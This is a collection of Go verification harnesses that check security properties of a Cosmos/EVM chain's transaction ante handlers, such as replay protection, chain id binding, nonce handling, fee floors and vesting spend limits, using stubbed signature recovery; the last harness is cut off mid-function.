		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.GasWantedDecorator); return ok }), "Ethereum route: gas-wanted accumulation (C17)")
	case 1:
		newCosmosAnteHandler(opts)
		ch := c17Captured
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(cosmosante.RejectMessagesDecorator); return ok }), "Cosmos route: Ethereum messages rejected (C06)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(cosmosante.AuthzLimiterDecorator); return ok }), "Cosmos route: authz limiter (C06)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(ante.RejectExtensionOptionsDecorator); return ok }), "Cosmos route: every extension option checked (C06)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(cosmosante.MinGasPriceDecorator); return ok }), "Cosmos route: fee floor (C07)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(cosmosante.DeductFeeDecorator); return ok }), "Cosmos route: fee deduction (C07)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(ante.SigVerificationDecorator); return ok }), "Cosmos route: signature verification (C03)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(ante.IncrementSequenceDecorator); return ok }), "Cosmos route: sequence increment (C03)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.GasWantedDecorator); return ok }), "Cosmos route: gas-wanted accumulation (C17)")
	default:
		newLegacyCosmosAnteHandlerEip712(opts)
		ch := c17Captured
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(cosmosante.RejectMessagesDecorator); return ok }), "EIP-712 route: Ethereum messages rejected (C06)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(cosmosante.AuthzLimiterDecorator); return ok }), "EIP-712 route: authz limiter (C06)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(cosmosante.MinGasPriceDecorator); return ok }), "EIP-712 route: fee floor (C07)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(cosmosante.DeductFeeDecorator); return ok }), "EIP-712 route: fee deduction (C07)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool {
			_, ok := d.(cosmosante.LegacyEip712SigVerificationDecorator)
			return ok
		}), "EIP-712 route: signature verification incl. the extension option count (C03, C06)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(ante.IncrementSequenceDecorator); return ok }), "EIP-712 route: sequence increment (C03)")
		zz.Assert(c17Has(ch, func(d sdk.AnteDecorator) bool { _, ok := d.(evmante.GasWantedDecorator); return ok }), "EIP-712 route: gas-wanted accumulation (C17)")
	}
	zz.Reach("end")
}
