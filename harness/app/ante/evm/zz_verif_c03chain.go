package evm

// Harness for property C03, Ethereum route, chain binding: the signature-verification decorator (with go-ethereum's real
// signer selection and Sender logic) accepts a message only if it is replay-protected and made for this chain's EVM chain id
// (or unprotected transactions are explicitly allowed). Elliptic-curve recovery and the RLP/keccak signing hash are stubs:
// "the signature recovers to some address".

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/ethereum/go-ethereum/core/types.recoverPlain -> c03Recover
//verif:override github.com/ethereum/go-ethereum/core/types.rlpHash -> c03RlpHash
//verif:override github.com/ethereum/go-ethereum/core/types.prefixedRlpHash -> c03PrefixedRlpHash

func c03Recover(sighash common.Hash, R, S, Vb *big.Int, homestead bool) (common.Address, error) {
	return vSenders[0], nil
}
func c03RlpHash(x interface{}) common.Hash                   { return common.Hash{1} }
func c03PrefixedRlpHash(prefix byte, x interface{}) common.Hash { return common.Hash{2} }

type c03Keeper struct {
	vEVMKeeper
	allowUnprotected bool
}

func (k c03Keeper) GetParams(ctx sdk.Context) evmtypes.Params {
	p := evmtypes.DefaultParams()
	p.AllowUnprotectedTxs = k.allowUnprotected
	return p
}

// VerifC03_EthChainID: accepted => (replay-protected and signed for chain id 11235) or (unprotected legacy and the chain allows
// unprotected transactions); a protected transaction for this chain is accepted.
func VerifC03_EthChainID() {
	allow := zz.AnyBool("allowUnprotectedTxs")
	dec := NewEthSigVerificationDecorator(c03Keeper{allowUnprotected: allow})
	to := common.HexToAddress("0x3000000000000000000000000000000000000003")
	kind := zz.Choose("type", 3)
	r, s := big.NewInt(1), big.NewInt(1)
	var tx *ethtypes.Transaction
	var protected, forThisChain bool
	switch kind {
	case 0:
		v := zz.AnyUint64In("v", 0, 1<<40)
		tx = ethtypes.NewTx(&ethtypes.LegacyTx{Nonce: 0, GasPrice: big.NewInt(1), Gas: 21000, To: &to, Value: big.NewInt(0), V: new(big.Int).SetUint64(v), R: r, S: s})
		protected = v != 27 && v != 28 && v != 0 && v != 1
		// EIP-155: v = chainId * 2 + 35 or + 36
		forThisChain = v == 11235*2+35 || v == 11235*2+36
	case 1:
		cid := zz.AnyUint64In("chainId", 0, 1<<40)
		tx = ethtypes.NewTx(&ethtypes.AccessListTx{ChainID: new(big.Int).SetUint64(cid), Nonce: 0, GasPrice: big.NewInt(1), Gas: 21000, To: &to, Value: big.NewInt(0), V: big.NewInt(0), R: r, S: s})
		protected, forThisChain = true, cid == 11235
	default:
		cid := zz.AnyUint64In("chainId", 0, 1<<40)
		tx = ethtypes.NewTx(&ethtypes.DynamicFeeTx{ChainID: new(big.Int).SetUint64(cid), Nonce: 0, GasFeeCap: big.NewInt(1), GasTipCap: big.NewInt(1), Gas: 21000, To: &to, Value: big.NewInt(0), V: big.NewInt(0), R: r, S: s})
		protected, forThisChain = true, cid == 11235
	}
	msg := &evmtypes.MsgEthereumTx{}
	if err := msg.FromEthereumTx(tx); err != nil {
		panic(err)
	}
	called := false
	ctx := sdk.Context{}.WithBlockHeight(10)
	// the unsigned From field as it arrives: empty, the real signer, or somebody else
	msg.From = []string{"", vSenders[0].Hex(), vSenders[1].Hex()}[zz.Choose("fromField", 3)]
	_, err := dec.AnteHandle(ctx, vTx{msgs: []sdk.Msg{msg}}, false, vNext(&called))
	zz.Assert(zz.Iff(err == nil, called), "the decorator either rejects or passes the transaction on")
	ok := zz.Or(zz.And(protected, forThisChain), zz.And(!protected, allow))
	zz.Assert(zz.Implies(called, ok), "accepted => replay-protected for this chain id, or unprotected transactions are allowed")
	zz.Assert(zz.Implies(zz.And(protected, forThisChain), called), "a protected transaction for this chain is accepted")
	if called {
		zz.Assert(msg.From == vSenders[0].Hex(), "the recovered signer becomes the sender of the message")
		zz.Reach("accepted")
	} else {
		zz.Reach("rejected")
	}
	zz.Reach("end")
}
