package evm

// Harness for property C01 (replicas agree): block execution must not depend on node-local configuration. The gas-consume
// decorator is constructed from the operator's private evm.max-tx-gas-wanted setting (a mempool protection); the harness
// runs it in DeliverTx mode on the same transaction under two arbitrary settings and requires identical outcomes
// (a relational / non-interference check).

import (
	"math/big"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"

	zz "github.com/haqq-network/haqq/zzverif"
)

type c01Bank struct{}

func (c01Bank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, sdkmath.NewIntFromBigInt(new(big.Int).Lsh(big.NewInt(1), 250)))
}

type c01Distr struct{}

func (c01Distr) WithdrawDelegationRewards(ctx sdk.Context, delAddr sdk.AccAddress, valAddr sdk.ValAddress) (sdk.Coins, error) {
	panic("not used")
}

type c01Staking struct{}

func (c01Staking) BondDenom(ctx sdk.Context) string { return "aISLM" }
func (c01Staking) IterateDelegations(ctx sdk.Context, delegator sdk.AccAddress, fn func(index int64, delegation stakingtypes.DelegationI) (stop bool)) {
}

type c01EVM struct{ vEVMKeeper }

func (k c01EVM) DeductTxCostsFromUserBalance(ctx sdk.Context, fees sdk.Coins, from common.Address) error {
	return nil
}

type c01Outcome struct {
	ok       bool
	limit    uint64
	priority int64
}

func c01Run(maxGasWanted uint64, ctx sdk.Context, tx sdk.Tx, baseFee *big.Int) c01Outcome {
	dec := NewEthGasConsumeDecorator(c01Bank{}, c01Distr{}, c01EVM{vEVMKeeper{baseFee: baseFee}}, c01Staking{}, maxGasWanted)
	var out c01Outcome
	_, err := dec.AnteHandle(ctx, tx, false, func(c sdk.Context, t sdk.Tx, simulate bool) (sdk.Context, error) {
		out.ok, out.limit, out.priority = true, c.GasMeter().Limit(), c.Priority()
		return c, nil
	})
	if err != nil {
		out.ok = false
	}
	return out
}

// VerifC01_NodeLocalConfig: in block execution (DeliverTx) the decorator's verdict, the gas limit it sets for the transaction
// (= GasWanted reported by the node and charged when the state transition errors) and the priority are the same for every
// value of the node-local max-tx-gas-wanted setting.
func VerifC01_NodeLocalConfig() {
	n := 1 + zz.Choose("messages", zz.ParamInt("msgs", 2))
	baseFee := zz.AnyBigAmount("baseFee", 64)
	var msgs []sdk.Msg
	for i := 0; i < n; i++ {
		m, _, _, _, _, _ := vEthMsg("m"+string(rune('0'+i)), vSenders[0])
		msgs = append(msgs, m)
	}
	blockLimit := zz.AnyUint64In("blockGasLimit", 1, 1<<62)
	ctx := sdk.Context{}.WithBlockHeight(10).WithBlockGasMeter(sdk.NewGasMeter(blockLimit)).WithEventManager(sdk.NewEventManager())
	a, b := zz.AnyUint64("maxGasWanted.nodeA"), zz.AnyUint64("maxGasWanted.nodeB")
	ra := c01Run(a, ctx, vTx{msgs: msgs}, baseFee)
	rb := c01Run(b, ctx, vTx{msgs: msgs}, baseFee)
	zz.ObserveUint64("limitA", ra.limit)
	zz.ObserveUint64("limitB", rb.limit)
	zz.Assert(ra.ok == rb.ok, "two nodes with different local settings accept / reject the same transaction in block execution")
	zz.Assert(ra.limit == rb.limit, "the transaction gas limit (GasWanted) set in block execution does not depend on a node-local setting")
	zz.Assert(ra.priority == rb.priority, "the priority does not depend on a node-local setting")
	if ra.ok {
		zz.Reach("accepted")
	} else {
		zz.Reach("rejected")
	}
	zz.Reach("end")
}
