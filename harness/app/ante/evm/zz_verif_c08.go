package evm

// Harness for property C08 on the Ethereum route: the vesting pre-check of the ante handler refuses a transaction whose
// messages together send more value than the clawback vesting account can spend (balance - LockedCoins) at the block time.

import (
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

type c08Bank struct{ bal sdkmath.Int }

func (b c08Bank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.bal)
}
func (b c08Bank) IsSendEnabledCoins(ctx sdk.Context, coins ...sdk.Coin) error { return nil }
func (b c08Bank) SendCoins(ctx sdk.Context, from, to sdk.AccAddress, amt sdk.Coins) error {
	panic("not used")
}
func (b c08Bank) SendCoinsFromAccountToModule(ctx sdk.Context, senderAddr sdk.AccAddress, recipientModule string, amt sdk.Coins) error {
	panic("not used")
}
func (b c08Bank) SendCoinsFromModuleToAccount(ctx sdk.Context, senderModule string, recipientAddr sdk.AccAddress, amt sdk.Coins) error {
	panic("not used")
}
func (b c08Bank) MintCoins(ctx sdk.Context, moduleName string, amt sdk.Coins) error { panic("not used") }
func (b c08Bank) BurnCoins(ctx sdk.Context, moduleName string, amt sdk.Coins) error { panic("not used") }

func c08ValueMsg(tag string, from common.Address) (*evmtypes.MsgEthereumTx, *big.Int) {
	v := zz.AnyBigAmount(tag+".value", 128)
	to := common.HexToAddress("0x3000000000000000000000000000000000000003")
	var tx *ethtypes.Transaction
	switch zz.Choose(tag+".type", 3) {
	case 0:
		tx = ethtypes.NewTx(&ethtypes.LegacyTx{Nonce: 0, GasPrice: big.NewInt(1), Gas: 21000, To: &to, Value: v})
	case 1:
		tx = ethtypes.NewTx(&ethtypes.AccessListTx{ChainID: big.NewInt(11235), Nonce: 0, GasPrice: big.NewInt(1), Gas: 21000, To: &to, Value: v})
	default:
		tx = ethtypes.NewTx(&ethtypes.DynamicFeeTx{ChainID: big.NewInt(11235), Nonce: 0, GasFeeCap: big.NewInt(1), GasTipCap: big.NewInt(1), Gas: 21000, To: &to, Value: v})
	}
	msg := &evmtypes.MsgEthereumTx{}
	if err := msg.FromEthereumTx(tx); err != nil {
		panic(err)
	}
	msg.From = from.Hex()
	return msg, v
}

// VerifC08_EthAnte: accepted => the total value of the account's messages <= max(balance - locked, 0); and a transaction
// within that limit (with a non-zero balance) is not rejected by this check.
func VerifC08_EthAnte() {
	n := 1 + zz.Choose("messages", zz.ParamInt("msgs", 2))
	now := zz.AnyInt64In("now", 0, int64(1)<<41)
	start := zz.AnyInt64In("start", 0, int64(1)<<40)
	lockAmt, vestAmt := zz.AnyAmount("lock0.amt", 100), zz.AnyAmount("vest0.amt", 100)
	total := zz.AnyAmount("grant", 100)
	zz.Assume(lockAmt.LTE(total) && vestAmt.LTE(total))
	// two-period schedules: (len0: part) (len1: rest)
	mk := func(tag string, first sdkmath.Int) sdkvesting.Periods {
		return sdkvesting.Periods{
			{Length: zz.AnyInt64In(tag+"0.len", 0, int64(1)<<36), Amount: sdk.NewCoins(sdk.NewCoin("aISLM", first))},
			{Length: zz.AnyInt64In(tag+"1.len", 0, int64(1)<<36), Amount: sdk.NewCoins(sdk.NewCoin("aISLM", total.Sub(first)))},
		}
	}
	lk, vs := mk("lock", lockAmt), mk("vest", vestAmt)
	ch := common.Hash{}
	addr := sdk.AccAddress(vSenders[0].Bytes())
	va := vestingtypes.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(addr), sdk.AccAddress(vSenders[1].Bytes()), sdk.NewCoins(sdk.NewCoin("aISLM", total)), time.Unix(start, 0), lk, vs, &ch)
	delegated := zz.AnyAmount("delegatedVesting", 100)
	zz.Assume(delegated.LTE(total))
	va.DelegatedVesting = sdk.NewCoins(sdk.NewCoin("aISLM", delegated))
	ak := &vAK{accs: map[string]authtypes.AccountI{addr.String(): va}}
	bal := zz.AnyAmount("balance", 101)
	dec := NewEthVestingTransactionDecorator(ak, c08Bank{bal: bal}, vEVMKeeper{})
	ctx := sdk.Context{}.WithBlockTime(time.Unix(now, 0))

	var msgs []sdk.Msg
	sum := new(big.Int)
	var vals []*big.Int
	for i := 0; i < n; i++ {
		m, v := c08ValueMsg("m"+string(rune('0'+i)), vSenders[0])
		msgs = append(msgs, m)
		vals = append(vals, new(big.Int).Set(v))
		sum = new(big.Int).Add(sum, v)
	}
	// independent reference: locked = max(original - unlocked - delegated vesting... , unvested) is C08's LockedCoins harness;
	// here the reference is the account's own LockedCoins, the subject is the decorator's bookkeeping around it
	locked := va.LockedCoins(time.Unix(now, 0)).AmountOf("aISLM")
	spendable := sdkmath.MaxInt(bal.Sub(locked), sdk.ZeroInt())
	called := false
	_, err := dec.AnteHandle(ctx, vTx{msgs: msgs}, false, vNext(&called))
	zz.Assert(zz.Iff(err == nil, called), "the decorator either rejects or passes the transaction on")
	// C18: the decoded message objects the ante handler has looked at are the ones the message server executes next
	for i, m := range msgs {
		zz.Assert(m.(*evmtypes.MsgEthereumTx).AsTransaction().Value().Cmp(vals[i]) == 0, "the ante handler leaves the transactions it checks as they were signed (the value of every message is unchanged)")
	}
	within := sdkmath.NewIntFromBigInt(sum).LTE(spendable)
	zz.Assert(zz.Implies(called, within), "accepted => the messages' total value is within balance - locked")
	zz.Assert(zz.Implies(zz.And(within, bal.IsPositive()), called), "a transaction within the spendable balance is not rejected by this check")
	if called {
		zz.Reach("accepted")
	} else {
		zz.Reach("rejected")
	}
	zz.Reach("end")
}
