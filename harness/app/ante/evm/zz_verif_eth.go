package evm

// Harnesses over the Ethereum-route ante decorators: C07 (fee floor), C03 (nonce = sequence, consumed once),
// C06 (the eth route accepts only MsgEthereumTx).

import (
	"math/big"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/core/vm"
	"github.com/ethereum/go-ethereum/params"

	"github.com/haqq-network/haqq/x/evm/statedb"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

// ---- stubs

type vEVMKeeper struct {
	baseFee *big.Int
}

func (k vEVMKeeper) GetAccount(ctx sdk.Context, addr common.Address) *statedb.Account { panic("not used") }
func (k vEVMKeeper) GetState(ctx sdk.Context, addr common.Address, key common.Hash) common.Hash {
	panic("not used")
}
func (k vEVMKeeper) GetCode(ctx sdk.Context, codeHash common.Hash) []byte { panic("not used") }
func (k vEVMKeeper) ForEachStorage(ctx sdk.Context, addr common.Address, cb func(key, value common.Hash) bool) {
	panic("not used")
}
func (k vEVMKeeper) SetAccount(ctx sdk.Context, addr common.Address, account statedb.Account) error {
	panic("not used")
}
func (k vEVMKeeper) SetState(ctx sdk.Context, addr common.Address, key common.Hash, value []byte) {
	panic("not used")
}
func (k vEVMKeeper) SetCode(ctx sdk.Context, codeHash []byte, code []byte)      { panic("not used") }
func (k vEVMKeeper) DeleteAccount(ctx sdk.Context, addr common.Address) error   { panic("not used") }
func (k vEVMKeeper) ChainID() *big.Int                                          { return big.NewInt(11235) }
func (k vEVMKeeper) GetParams(ctx sdk.Context) evmtypes.Params                  { return evmtypes.DefaultParams() }
func (k vEVMKeeper) GetBaseFee(ctx sdk.Context, ethCfg *params.ChainConfig) *big.Int { return k.baseFee }
func (k vEVMKeeper) NewEVM(ctx sdk.Context, msg core.Message, cfg *statedb.EVMConfig, tracer vm.EVMLogger, stateDB vm.StateDB) *vm.EVM {
	panic("not used")
}
func (k vEVMKeeper) DeductTxCostsFromUserBalance(ctx sdk.Context, fees sdk.Coins, from common.Address) error {
	panic("not used")
}
func (k vEVMKeeper) GetBalance(ctx sdk.Context, addr common.Address) *big.Int { panic("not used") }
func (k vEVMKeeper) ResetTransientGasUsed(ctx sdk.Context)                    {}
func (k vEVMKeeper) GetTxIndexTransient(ctx sdk.Context) uint64               { return 0 }

type vFeeMarket struct{ minGasPrice sdk.Dec }

func (f vFeeMarket) GetParams(ctx sdk.Context) feemarkettypes.Params {
	p := feemarkettypes.DefaultParams()
	p.MinGasPrice = f.minGasPrice
	return p
}
func (f vFeeMarket) AddTransientGasWanted(ctx sdk.Context, gasWanted uint64) (uint64, error) { return 0, nil }
func (f vFeeMarket) GetBaseFeeEnabled(ctx sdk.Context) bool                                  { return true }

type vTx struct{ msgs []sdk.Msg }

func (t vTx) GetMsgs() []sdk.Msg   { return t.msgs }
func (t vTx) ValidateBasic() error { return nil }

// vAK: accounts by address with their sequence numbers.
type vAK struct{ accs map[string]authtypes.AccountI }

func (a *vAK) NewAccountWithAddress(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	return authtypes.NewBaseAccountWithAddress(addr)
}
func (a *vAK) GetModuleAddress(moduleName string) sdk.AccAddress { return authtypes.NewModuleAddress(moduleName) }
func (a *vAK) GetAllAccounts(ctx sdk.Context) []authtypes.AccountI { return nil }
func (a *vAK) IterateAccounts(ctx sdk.Context, cb func(account authtypes.AccountI) bool) {}
func (a *vAK) GetSequence(ctx sdk.Context, addr sdk.AccAddress) (uint64, error) {
	return a.accs[addr.String()].GetSequence(), nil
}
func (a *vAK) GetAccount(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	acc, ok := a.accs[addr.String()]
	if !ok {
		return nil
	}
	return acc
}
func (a *vAK) SetAccount(ctx sdk.Context, account authtypes.AccountI) { a.accs[account.GetAddress().String()] = account }
func (a *vAK) RemoveAccount(ctx sdk.Context, account authtypes.AccountI) {}
func (a *vAK) GetParams(ctx sdk.Context) authtypes.Params               { return authtypes.DefaultParams() }

var vSenders = []common.Address{common.HexToAddress("0x1000000000000000000000000000000000000001"), common.HexToAddress("0x2000000000000000000000000000000000000002")}

// vEthMsg builds a MsgEthereumTx of a chosen type with symbolic nonce / gas / prices, through the real constructor path.
func vEthMsg(tag string, from common.Address) (*evmtypes.MsgEthereumTx, uint64, uint64, *big.Int, *big.Int, bool) {
	nonce := zz.AnyUint64(tag + ".nonce")
	gas := zz.AnyUint64In(tag+".gas", 0, 1<<62)
	to := common.HexToAddress("0x3000000000000000000000000000000000000003")
	var tx *ethtypes.Transaction
	var price, tip *big.Int
	legacy := zz.Choose(tag+".type", 2) == 0
	if legacy {
		price = zz.AnyBigAmount(tag+".gasPrice", 128)
		tip = price
		tx = ethtypes.NewTx(&ethtypes.LegacyTx{Nonce: nonce, GasPrice: price, Gas: gas, To: &to, Value: big.NewInt(0)})
	} else {
		price = zz.AnyBigAmount(tag+".feeCap", 128)
		tip = zz.AnyBigAmount(tag+".tipCap", 128)
		tx = ethtypes.NewTx(&ethtypes.DynamicFeeTx{ChainID: big.NewInt(11235), Nonce: nonce, GasFeeCap: price, GasTipCap: tip, Gas: gas, To: &to, Value: big.NewInt(0)})
	}
	msg := &evmtypes.MsgEthereumTx{}
	if err := msg.FromEthereumTx(tx); err != nil {
		panic(err)
	}
	msg.From = from.Hex()
	return msg, nonce, gas, price, tip, legacy
}

func vNext(called *bool) sdk.AnteHandler {
	return func(ctx sdk.Context, tx sdk.Tx, simulate bool) (sdk.Context, error) {
		*called = true
		return ctx, nil
	}
}

// VerifC07_EthFloor: an Ethereum transaction passes the min-gas-price decorator only if every message's (effective) fee is
// at least gasLimit x the network minimum gas price.
func VerifC07_EthFloor() {
	n := 1 + zz.Choose("messages", zz.ParamInt("msgs", 2))
	minGP := zz.AnyDecRaw("minGasPrice", "0", "1000000000000000000000000000000000000000000")
	baseFee := zz.AnyBigAmount("baseFee", 128)
	dec := NewEthMinGasPriceDecorator(vFeeMarket{minGasPrice: minGP}, vEVMKeeper{baseFee: baseFee})
	var msgs []sdk.Msg
	ok := true
	for i := 0; i < n; i++ {
		m, _, gas, price, tip, legacy := vEthMsg("m"+string(rune('0'+i)), vSenders[0])
		msgs = append(msgs, m)
		// the fee this message pays: legacy gasPrice x gas; otherwise min(tip + baseFee, feeCap) x gas
		eff := price
		if !legacy {
			eff = new(big.Int).Add(tip, baseFee)
			if eff.Cmp(price) > 0 {
				eff = price
			}
		}
		fee := sdkmath.LegacyNewDecFromBigInt(new(big.Int).Mul(eff, new(big.Int).SetUint64(gas)))
		required := minGP.Mul(sdkmath.LegacyNewDecFromBigInt(new(big.Int).SetUint64(gas)))
		ok = zz.And(ok, fee.GTE(required))
	}
	called := false
	_, err := dec.AnteHandle(sdk.Context{}, vTx{msgs: msgs}, false, vNext(&called))
	zz.Assert(zz.Iff(err == nil, called), "the decorator either rejects or passes the transaction on")
	zz.Assert(zz.Implies(called, ok), "accepted => every message pays at least gasLimit x minimum gas price")
	zz.Assert(zz.Implies(ok, called), "a transaction that pays the floor is not rejected by this check")
	zz.Reach("end")
}

// VerifC03_Nonce: the sequence decorator accepts a message only if its nonce equals the sender's current sequence and
// then consumes that sequence number - so the same transaction can never be accepted a second time.
func VerifC03_Nonce() {
	n := 1 + zz.Choose("messages", zz.ParamInt("msgs", 3))
	ak := &vAK{accs: map[string]authtypes.AccountI{}}
	seq0 := make([]uint64, len(vSenders))
	for i, s := range vSenders {
		acc := authtypes.NewBaseAccountWithAddress(sdk.AccAddress(s.Bytes()))
		seq0[i] = zz.AnyUint64In("seq."+string(rune('A'+i)), 0, 1<<62)
		if err := acc.SetSequence(seq0[i]); err != nil {
			panic(err)
		}
		ak.accs[acc.GetAddress().String()] = acc
	}
	dec := NewEthIncrementSenderSequenceDecorator(ak)
	var msgs []sdk.Msg
	used := make([]uint64, len(vSenders)) // messages per sender so far
	ok := true
	for i := 0; i < n; i++ {
		who := zz.Choose("sender"+string(rune('0'+i)), len(vSenders))
		m, nonce, _, _, _, _ := vEthMsg("m"+string(rune('0'+i)), vSenders[who])
		msgs = append(msgs, m)
		ok = zz.And(ok, nonce == seq0[who]+used[who])
		used[who]++
	}
	tx := vTx{msgs: msgs}
	called := false
	_, err := dec.AnteHandle(sdk.Context{}, tx, false, vNext(&called))
	zz.Assert(zz.Iff(err == nil, called), "the decorator either rejects or passes the transaction on")
	zz.Assert(zz.Iff(called, ok), "accepted <=> every message carries exactly the sender's next sequence number")
	if called {
		for i, s := range vSenders {
			got := ak.accs[sdk.AccAddress(s.Bytes()).String()].GetSequence()
			zz.ObserveUint64("seq."+string(rune('A'+i)), got)
			zz.Assert(got == seq0[i]+used[i], "each accepted message consumes exactly one sequence number of its sender")
		}
		// replay: the very same transaction, submitted again from the state it produced, is rejected
		again := false
		_, err2 := dec.AnteHandle(sdk.Context{}, tx, false, vNext(&again))
		zz.Assert(err2 != nil && !again, "replaying an accepted transaction is rejected")
		zz.Reach("accepted")
	}
	zz.Reach("end")
}

// VerifC06_EthRouteTypes: the eth-route decorators that walk the messages refuse anything that is not a MsgEthereumTx.
func VerifC06_EthRouteTypes() {
	m, _, _, _, _, _ := vEthMsg("m0", vSenders[0])
	var msgs []sdk.Msg
	switch zz.Choose("shape", 3) {
	case 0:
		msgs = []sdk.Msg{&banktypes.MsgSend{}}
	case 1:
		msgs = []sdk.Msg{m, &banktypes.MsgSend{}}
	default:
		msgs = []sdk.Msg{&banktypes.MsgSend{}, m}
	}
	tx := vTx{msgs: msgs}
	ak := &vAK{accs: map[string]authtypes.AccountI{}}
	acc := authtypes.NewBaseAccountWithAddress(sdk.AccAddress(vSenders[0].Bytes()))
	_ = acc.SetSequence(m.AsTransaction().Nonce())
	ak.accs[acc.GetAddress().String()] = acc
	called := false
	var err error
	switch zz.Choose("decorator", 2) {
	case 0:
		one := sdkmath.LegacyOneDec()
		_, err = NewEthMinGasPriceDecorator(vFeeMarket{minGasPrice: one}, vEVMKeeper{baseFee: big.NewInt(0)}).AnteHandle(sdk.Context{}, tx, false, vNext(&called))
	default:
		_, err = NewEthIncrementSenderSequenceDecorator(ak).AnteHandle(sdk.Context{}, tx, false, vNext(&called))
	}
	zz.Assert(err != nil && !called, "a non-Ethereum message on the Ethereum route is rejected")
	zz.Reach("end")
}
