package evm

// Harness for property C03 on the Ethereum route: the account whose nonce is checked and bumped and which pays the fee is
// taken from MsgEthereumTx.From by the later decorators, and From is not covered by the signature. Two sites keep it
// honest - the basic validation refuses a transaction that arrives with From filled in, and the signature verification
// overwrites From with the recovered signer - in every execution mode a block can reach (a proposer can put a transaction
// into a block that never passed CheckTx).

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	txtypes "github.com/cosmos/cosmos-sdk/types/tx"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	codectypes "github.com/cosmos/cosmos-sdk/codec/types"

	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

func VerifC03_FromIsTheRecoveredSigner() {
	to := common.HexToAddress("0x3000000000000000000000000000000000000003")
	tx := ethtypes.NewTx(&ethtypes.DynamicFeeTx{ChainID: big.NewInt(11235), Nonce: 0, GasFeeCap: big.NewInt(1), GasTipCap: big.NewInt(1), Gas: 21000, To: &to, Value: big.NewInt(0), V: big.NewInt(0), R: big.NewInt(1), S: big.NewInt(1)})
	msg := &evmtypes.MsgEthereumTx{}
	if err := msg.FromEthereumTx(tx); err != nil {
		panic(err)
	}
	// what the transaction bytes carry in the unsigned From field: nothing, the real signer, or somebody else's account
	claimed := []string{"", vSenders[0].Hex(), vSenders[1].Hex()}[zz.Choose("fromField", 3)]
	msg.From = claimed
	ctx := sdk.Context{}.WithBlockHeight(10)
	mode := zz.Choose("mode", 3)
	switch mode {
	case 1:
		ctx = ctx.WithIsCheckTx(true)
	case 2:
		ctx = ctx.WithIsCheckTx(true).WithIsReCheckTx(true)
	}
	c06Msgs = []sdk.Msg{msg}
	opt, err := codectypes.NewAnyWithValue(&evmtypes.ExtensionOptionsEthereumTx{})
	if err != nil {
		panic(err)
	}
	fee := sdk.Coins{}.Add(sdk.Coin{Denom: "aISLM", Amount: sdk.NewInt(21000)})
	p := c06ProtoTx{p: &txtypes.Tx{
		Body:     &txtypes.TxBody{ExtensionOptions: []*codectypes.Any{opt}},
		AuthInfo: &txtypes.AuthInfo{Fee: &txtypes.Fee{Amount: fee, GasLimit: 21000}},
	}}
	passedBasic := false
	_, err = NewEthValidateBasicDecorator(vEVMKeeper{baseFee: big.NewInt(0)}).AnteHandle(ctx, p, false, vNext(&passedBasic))
	if mode != 2 { // the basic validation does not run again on ReCheckTx
		zz.Assert(zz.Implies(claimed != "", err != nil && !passedBasic), "a transaction that arrives with the From field filled in is refused by the basic validation, in CheckTx and in block execution alike")
	}
	if !passedBasic {
		zz.Reach("?refused")
		return
	}
	verified := false
	_, err = NewEthSigVerificationDecorator(c03Keeper{allowUnprotected: false}).AnteHandle(ctx, p, false, vNext(&verified))
